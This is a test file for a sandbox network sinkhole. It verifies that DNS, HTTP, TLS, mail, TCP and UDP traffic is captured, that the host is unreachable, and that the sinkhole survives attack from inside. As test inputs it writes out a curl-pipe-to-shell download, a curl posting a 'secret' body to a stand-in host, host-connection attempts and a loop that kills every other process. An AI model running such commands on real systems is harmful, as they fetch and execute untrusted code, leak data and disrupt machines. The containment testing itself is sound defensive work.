import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BackendId } from '../../../src/model/observation.ts';
import type { Backend, SandboxCommand, SandboxResult } from '../../../src/sandbox/backend.ts';
import { loadBackend } from '../../../src/sandbox/backends/registry.ts';
import { readJournal } from '../../../src/sandbox/sinkhole/traffic.ts';
import { USUAL_WORLD } from '../../../src/sandbox/world.ts';
import { containersOf, foldersOf } from '../backends/leftovers.ts';
import { describeWith } from '../backends/requirement.ts';
import { err, out, sample } from '../backends/sample.ts';

const signal = new AbortController().signal;

/** Which of two connections is first noticed is up to the machine. */
function byAddress(one: { to: string }, other: { to: string }): number {
  return one.to < other.to ? -1 : 1;
}

/** Speaks the ways that programs speak to the internet, on ports that nobody expects too. */
const CLIENT = `
import json, os, socket, ssl, subprocess, urllib.request
said = {}
said["names"] = [socket.gethostbyname(name) for name in ("one.example", "two.example", "one.example")]
said["http"] = json.load(urllib.request.urlopen("http://one.example:4567/v1/x?k=v", data=b"body of one", timeout=9))["ok"]
said["https"] = json.load(urllib.request.urlopen("https://two.example/y.json", timeout=9))["ok"]
with socket.create_connection(("203.0.113.9", 31338), timeout=9) as raw:
    raw.sendall(b"raw bytes")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"datagram", ("203.0.113.9", 9999))
context = ssl.create_default_context(cadata=None)
context.check_hostname, context.verify_mode = True, ssl.CERT_REQUIRED
with socket.create_connection(("203.0.113.10", 8443), timeout=9) as raw:
    with context.wrap_socket(raw, server_hostname="named.example") as secure:
        secure.sendall(b"GET /tls HTTP/1.1\\r\\nHost: named.example\\r\\nConnection: close\\r\\n\\r\\n")
        said["tls"] = secure.recv(12).decode()
with socket.create_connection(("mail.example", 25), timeout=9) as mail:
    said["mail"] = mail.recv(100).decode()[:3]
    for line in (b"EHLO x", b"MAIL FROM:<a@b.example>", b"RCPT TO:<c@d.example>", b"DATA"):
        mail.sendall(line + b"\\r\\n")
        said["mail"] += mail.recv(100).decode()[:3]
    mail.sendall(b"the letter\\r\\n.\\r\\nQUIT\\r\\n")
    said["mail"] += mail.recv(100).decode()[:3]
print(json.dumps(said))
`;

async function run(
  backend: Backend,
  command: readonly string[],
  rest: Partial<SandboxCommand> = {},
): Promise<SandboxResult> {
  return backend.run(sample(command, { ...rest, world: USUAL_WORLD }), signal);
}

for (const id of ['native', 'bubblewrap', 'docker', 'podman'] satisfies readonly BackendId[]) {
  await describeWith(id, `the sinkhole of ${id}`, () => {
    let backend: Backend;
    beforeAll(async () => {
      backend = await loadBackend(id);
    });

    it('answers names, HTTP, TLS, mail and raw connections on any port, and keeps what was sent', async () => {
      const result = await run(backend, ['python3', '-c', CLIENT]);
      expect(err(result)).toBe('');
      expect(JSON.parse(out(result))).toEqual({
        names: ['198.18.0.1', '198.18.0.2', '198.18.0.1'],
        http: true,
        https: true,
        tls: 'HTTP/1.1 200',
        mail: '220250250250354250',
      });
      const { connections, lookups, lost, limitation } = result.traffic!;
      expect({ lost, limitation }).toEqual({ lost: 0, limitation: null });
      expect([...new Set(lookups.map(({ name }) => name))]).toEqual([
        'one.example',
        'two.example',
        'mail.example',
      ]);
      expect(
        connections
          .map(({ protocol, host, port, requests, content }) => ({
            to: `${protocol} ${host}:${port}`,
            requests: requests.map((each) => `${each.method} ${each.scheme}://${each.host}${each.path}`),
            says: /body of one|raw bytes|datagram|GET \S+|the letter/.exec(
              Buffer.from(content).toString(),
            )?.[0],
          }))
          .sort(byAddress),
      ).toEqual([
        { to: 'tcp 203.0.113.9:31338', requests: [], says: 'raw bytes' },
        { to: 'tcp mail.example:25', requests: [], says: 'the letter' },
        { to: 'tcp named.example:8443', requests: ['GET https://named.example/tls'], says: 'GET /tls' },
        { to: 'tcp one.example:4567', requests: ['POST http://one.example/v1/x'], says: 'body of one' },
        { to: 'tcp two.example:443', requests: ['GET https://two.example/y.json'], says: 'GET /y.json' },
        { to: 'udp 203.0.113.9:9999', requests: [], says: 'datagram' },
      ]);
    });

    it('is trusted by Node, curl and the shell, and sees a script run that was downloaded', async () => {
      const script = `node -e 'fetch("https://node.example/x", { method: "POST", body: "from node" })' && curl -sS https://dl.example/install.sh | sh`;
      const result = await run(backend, ['sh', '-c', script]);
      expect(err(result)).toBe('');
      const { connections, lookups } = result.traffic!;
      expect(connections.map(({ host, isUntrusting }) => [host, isUntrusting])).toEqual([
        ['node.example', false],
        ['dl.example', false],
      ]);
      const trace = connections[1]!.requests[0]!.trace;
      expect(trace).toMatch(/^d\d+\.ran\.invalid$/);
      expect(lookups.map(({ name }) => name)).toContain(trace);
    });

    it('lets nothing out to the host, whichever of its addresses is tried', async () => {
      let reached = 0;
      const server = createServer((socket) => {
        reached += 1;
        socket.destroy();
      });
      const port = await listening(server);
      const own = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
      const addresses = own.flatMap(({ address, family }) => (family === 'IPv4' ? [address] : []));
      const tries = [...new Set(['127.0.0.1', ...addresses])];
      const script = `import socket, sys
for address in sys.argv[2:]:
    try:
        with socket.create_connection((address, int(sys.argv[1])), timeout=2) as plug:
            plug.sendall(b"hello")
    except OSError:
        pass
print("tried")`;
      const result = await run(backend, ['python3', '-c', script, String(port), ...tries]);
      server.close();
      expect(out(result)).toBe('tried\n');
      expect(reached).toBe(0);
      // Only the sandbox's own loopback is no address of the sinkhole's.
      const taken = result.traffic!.connections.map(({ host }) => host);
      expect(taken).toEqual(tries.filter((address) => !address.startsWith('127.')));
    });

    it('hands on the exit status, leaves nothing, and keeps what came before a limit', async () => {
      expect(await run(backend, ['sh', '-c', 'exit 7'])).toMatchObject({ exit: 7, limitsHit: [] });
      const script = 'curl -sS -d secret-body http://up.example/ >/dev/null; sleep 60';
      const limits = { ...sample([]).limits, wallMs: 3_000 };
      const result = await run(backend, ['sh', '-c', script], { limits });
      expect(result).toMatchObject({ exit: null, limitsHit: ['wall-time'] });
      expect(Buffer.from(result.traffic!.connections[0]!.content).toString()).toContain('secret-body');
      expect(foldersOf(process.pid)).toEqual([]);
      if (id === 'docker' || id === 'podman') expect(containersOf(process.pid, id)).toEqual([]);
    });

    it('cannot be reached or ended from inside', async () => {
      const script = `import os, signal
others = [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
for pid in others:
    command = open("/proc/%d/cmdline" % pid).read()
    assert "sinkhole" not in command, command
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
import socket
print(socket.gethostbyname("still.example"))`;
      // The start script waits for the command in a container; without it there would be nobody to tell.
      const result = await run(backend, [
        'python3',
        '-c',
        script.replace('!= os.getpid()', 'not in (1, os.getpid(), os.getppid())'),
      ]);
      expect(out(result)).toBe('198.18.0.1\n');
    });
  });
}

for (const id of ['gvisor', 'firejail', 'landlock'] satisfies readonly BackendId[]) {
  await describeWith(id, `${id} without a sinkhole`, () => {
    it('refuses a world that has one', async () => {
      const backend = await loadBackend(id);
      expect(backend.hasSinkhole).toBe(false);
      await expect(run(backend, ['true'])).rejects.toMatchObject({
        kind: 'sandbox',
        code: 'sinkhole-absent',
      });
    });
  });
}

describe('the journal of a sinkhole', () => {
  it('passes over what is cut off or no record, and counts what was lost', () => {
    const journal = [
      '{"t": "connection", "at": 1, "connection": 1, "address": "198.18.0.1", "port": 80, "host": "a.example"}',
      '{"t": "data", "connection": 1, "content": "aGVsbG8=", "cut": 3}',
      '{"t": "data", "connection": 9, "content": "aGVsbG8="}',
      '{"t": "lost", "count": 1}',
      'null',
      '{"t": "dns", "at": 2, "na',
    ].join('\n');
    const traffic = readJournal(journal);
    expect(traffic).toMatchObject({ lookups: [], lost: 1000, limitation: null });
    expect(traffic.connections).toHaveLength(1);
    expect(traffic.connections[0]).toMatchObject({ host: 'a.example', cut: 3, protocol: 'tcp' });
    expect(Buffer.from(traffic.connections[0]!.content).toString()).toBe('hello');
  });
});

let servers: Server[] = [];
afterAll(() => {
  for (const server of servers) server.close();
  servers = [];
});

function listening(server: Server): Promise<number> {
  servers.push(server);
  return new Promise((resolve) => {
    server.listen(0, '0.0.0.0', () => {
      resolve((server.address() as { port: number }).port);
    });
  });
}
